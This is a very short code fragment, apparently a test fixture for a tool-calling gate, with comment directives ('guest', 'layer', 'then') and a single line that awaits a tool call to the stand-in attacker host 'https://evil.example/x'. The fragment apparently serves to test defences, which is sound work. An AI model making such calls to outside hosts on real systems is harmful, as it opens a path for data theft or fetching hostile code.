//! guest = "run"
//! layer = "gate"
//! then = "chamber"
return await callTool("https://evil.example/x", {});
